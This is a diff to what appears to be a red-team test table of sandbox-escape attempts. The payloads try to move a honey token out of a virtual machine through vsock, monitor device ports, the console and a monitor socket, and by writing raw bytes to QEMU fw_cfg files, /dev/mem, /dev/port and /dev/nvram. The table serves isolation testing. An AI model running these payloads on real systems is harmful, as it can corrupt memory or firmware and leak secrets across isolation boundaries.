@@ -1,6 +1,6 @@
 """Out of the machine: files of the host, its sockets, its devices. What a script can say of the token in a file of this host is what counts."""
 
-from hatchway.redteam.attacks.attack import SOURCE, Attack, table
+from hatchway.redteam.attacks.attack import BLOCKED, SOURCE, Attack, table
 
 _PATH = "facts['honey']"
 
@@ -48,5 +48,13 @@ ATTACKS: tuple[Attack, ...] = (
         "arp": "frame(b'\\0\\1\\x08\\0\\6\\4\\0\\1' + my_mac() + socket.inet_aton('10.200.0.2') + b'\\0' * 6 + socket.inet_aton('10.200.0.3') + B, kind=0x0806, to=b'\\xff' * 6)",
         "lease": "frame(ip4('255.255.255.255', 17, struct.pack('>HHHH', 67, 68, 8 + 15, 0) + B), to=b'\\xff' * 6)",
         "kind-of-ours": "frame(B * 4, kind=0x88b6, to=b'\\xff' * 6)",
-    }, (SOURCE,)),
+    }, (BLOCKED, SOURCE)),
+    *table("E10", "Sockets of the monitor", {
+        f"vsock-{name}": f"by_vsock({number}, B)" for name, number in (("host", 2), ("own", 1), ("hypervisor", 0), ("any", 0xffffffff))
+    }),
+    *table("E10", "Ports of the monitor's devices", {
+        "other-ports": "by_ports(B)",
+        "console": "by_console(B)",
+        "firmware-writes": "tried.append('fw_cfg')\nfor path in glob.glob('/sys/firmware/qemu_fw_cfg/**/raw', recursive=True) + ['/dev/mem', '/dev/port', '/dev/nvram']:\n    try: open(path, 'r+b', buffering=0).write(B)\n    except OSError: pass\nby_unix(facts.get('monitor', ''), B)",
+    }),
 )  # fmt: skip
